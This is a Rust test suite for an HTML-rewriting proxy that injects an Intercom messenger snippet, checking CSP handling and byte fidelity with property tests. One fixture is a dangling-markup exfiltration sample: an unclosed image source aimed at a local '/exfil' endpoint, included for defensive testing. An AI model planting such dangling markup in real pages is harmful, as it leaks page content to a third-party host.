//! Markup the proxy must read as a browser does, through the proxy: a `<meta>` CSP written
//! with character references, a page that ends inside an open attribute, and the word
//! "intercomSettings" outside a script. Then the byte-fidelity property with pages that may
//! end anywhere: the snippet at most once, and always once in complete markup.
#![cfg(feature = "server")]

mod common;

use std::sync::Arc;

use bytes::Bytes;
use common::*;
use futures_util::stream;
use http::Response;
use http_body::Frame;
use http_body_util::{BodyExt, StreamBody};
use intercom_secure_proxy::config::Region;
use intercom_secure_proxy::inject::{
    HeadMemo, MessengerMarkers, PagePlan, PageRewriter, RewriteBody,
};
use intercom_secure_proxy::intercom::{IntercomHosts, Snippet};
use lol_html::AsciiCompatibleEncoding;
use proptest::prelude::*;
use serde_json::json;

const ENTITY_META: &str = "<!DOCTYPE html><html><head><meta http-equiv=\"Content-Security-Policy\" content=\"script-src &#39;self&#39;; style-src &#39;none&#39;; base-uri &#39;none&#39;\"><style>h1{color:red}</style></head><body><h1>x</h1></body></html>";
const UNREADABLE_META: &str = "<!DOCTYPE html><html><head><meta http-equiv=\"Content-Security-Policy\" content=\"script-src &lsquo;self&rsquo;\"></head><body>x</body></html>";
const OPEN_ATTRIBUTE: &str =
    "<!DOCTYPE html><title>t</title><p>hello<img src='http://127.0.0.1:9/exfil?x=";
const TITLE_MARKER: &str = "<!DOCTYPE html><html><head><title>intercomSettings explained</title></head><body>x</body></html>";

async fn pages() -> Upstream {
    upstream(|req| async move {
        let page = match req.uri().path() {
            "/entity-meta" => ENTITY_META,
            "/unreadable-meta" => UNREADABLE_META,
            "/open-attribute" => OPEN_ATTRIBUTE,
            _ => TITLE_MARKER,
        };
        let mut r = Response::new(full(page));
        r.headers_mut()
            .insert("content-type", "text/html; charset=utf-8".parse().unwrap());
        r
    })
    .await
}

fn cookie() -> String {
    let jwt =
        session_jwt(json!({"sub": "u-7", "email": "h@example.com", "exp": now_secs() + 3600}));
    format!("session={jwt}")
}

#[tokio::test]
async fn a_meta_csp_with_references_keeps_its_directives_and_allows_the_snippet() {
    let app = pages().await;
    let proxy = proxy_for(&format!("http://{}", app.addr)).await;
    let (_, page) = get_page(&proxy, "/entity-meta", Some(&cookie())).await;
    assert_eq!(messenger_user(&page).as_deref(), Some("u-7"));
    let start = page.find("content=\"").unwrap() + 9;
    let policy = &page[start..start + page[start..].find('"').unwrap()];
    let hash = Snippet {
        script: script(&page).unwrap()["<script>".len()..].to_string(),
    }
    .csp_hash();
    assert!(
        policy.starts_with(&format!("script-src 'self' {hash} https://app.intercom.io")),
        "{policy}"
    );
    assert!(
        policy.ends_with("; style-src 'none'; base-uri 'none'"),
        "{policy}"
    );
}

#[tokio::test]
async fn pages_the_proxy_cannot_read_or_end_inside_markup_pass_untouched() {
    let app = pages().await;
    let proxy = proxy_for(&format!("http://{}", app.addr)).await;
    for (path, original) in [
        ("/unreadable-meta", UNREADABLE_META),
        ("/open-attribute", OPEN_ATTRIBUTE),
    ] {
        let (_, page) = get_page(&proxy, path, Some(&cookie())).await;
        assert_eq!(page, original, "{path}");
    }
}

#[tokio::test]
async fn the_word_in_a_title_does_not_stop_the_boot() {
    let app = pages().await;
    let proxy = proxy_for(&format!("http://{}", app.addr)).await;
    let (_, page) = get_page(&proxy, "/title-marker", Some(&cookie())).await;
    assert_eq!(messenger_user(&page).as_deref(), Some("u-7"));
    assert_eq!(without_snippet(&page), TITLE_MARKER);
}

/// Fragments that leave the tokenizer in text, whatever came before them (also in text).
const COMPLETE: &[&[u8]] = &[
    b"<!DOCTYPE html>",
    b"<html>",
    b"<head>",
    b"</head>",
    b"</HEAD  >",
    b"<body>",
    b"<BODY class=a>",
    b"</body>",
    b"<title>intercomSettings</title>",
    b"<!-- </head> intercomSettings -->",
    b"<script>var s='</head>';</script>",
    b"<style>p{}</style>",
    b"<div title=\"</head> intercomSettings\">",
    b"<p>",
    b"text ",
    b"&amp; &lt; &am",
    b"<br/>",
    b"<textarea></head></textarea>",
    b"\xc3\xa9\xe2\x82\xac",
    b"\xff\xfe\x80",
    b">",
    b" < ",
];

/// Fragments that may leave it anywhere.
const OPEN: &[&[u8]] = &[
    b"<",
    b"</",
    b"<!--",
    b"-->",
    b"<script>",
    b"</script>",
    b"<img src='",
    b"'>",
    b"<template>",
    b"<svg>",
    b"<plaintext>",
];

fn snippet() -> Snippet {
    let mut settings = serde_json::Map::new();
    settings.insert("app_id".into(), "abc".into());
    Snippet::render(&settings, "https://widget.intercom.io/widget/abc")
}

/// The production body over `page` cut at `cuts`; what the client receives.
fn inject(page: &[u8], cuts: &[usize]) -> Vec<u8> {
    let mut points: Vec<usize> = cuts.iter().map(|c| c % (page.len() + 1)).collect();
    points.extend([0, page.len()]);
    points.sort_unstable();
    points.dedup();
    let chunks: Vec<Bytes> = points
        .windows(2)
        .map(|w| Bytes::copy_from_slice(&page[w[0]..w[1]]))
        .collect();
    let runtime = tokio::runtime::Builder::new_current_thread()
        .build()
        .unwrap();
    runtime.block_on(async move {
        let frames = chunks
            .into_iter()
            .map(|c| Ok::<_, std::convert::Infallible>(Frame::data(c)));
        let rewriter = PageRewriter::new(PagePlan {
            snippet: snippet(),
            nonce: None,
            hosts: Arc::new(IntercomHosts::new(Region::Us, None)),
            markers: Arc::new(MessengerMarkers::new(
                "https://widget.intercom.io/widget/abc",
            )),
            encoding: AsciiCompatibleEncoding::utf_8(),
            memo: Arc::new(HeadMemo::off()),
            even_if_present: false,
        });
        let body = RewriteBody::new(StreamBody::new(stream::iter(frames)), rewriter, None, None);
        body.collect().await.expect("body").to_bytes().to_vec()
    })
}

/// The page with the snippet cut out, and how many snippets there were.
fn without(out: &[u8]) -> (Vec<u8>, usize) {
    let html = snippet().html(None).into_bytes();
    match out.windows(html.len()).position(|w| w == html.as_slice()) {
        Some(at) => {
            let rest = [&out[..at], &out[at + html.len()..]].concat();
            let (rest, more) = without(&rest);
            (rest, more + 1)
        }
        None => (out.to_vec(), 0),
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    #[test]
    fn complete_markup_always_gets_the_snippet_once(
        parts in prop::collection::vec(prop::sample::select(COMPLETE), 0..30),
        cuts in prop::collection::vec(any::<usize>(), 0..8),
    ) {
        let page = parts.concat();
        let (rest, count) = without(&inject(&page, &cuts));
        prop_assert_eq!(rest, page);
        prop_assert_eq!(count, 1);
    }

    #[test]
    fn any_markup_is_the_app_s_bytes_with_the_snippet_at_most_once(
        parts in prop::collection::vec(prop::sample::select([COMPLETE, OPEN].concat()), 0..30),
        cuts in prop::collection::vec(any::<usize>(), 0..8),
    ) {
        let page = parts.concat();
        let (rest, count) = without(&inject(&page, &cuts));
        prop_assert_eq!(rest, page);
        prop_assert!(count <= 1);
    }
}
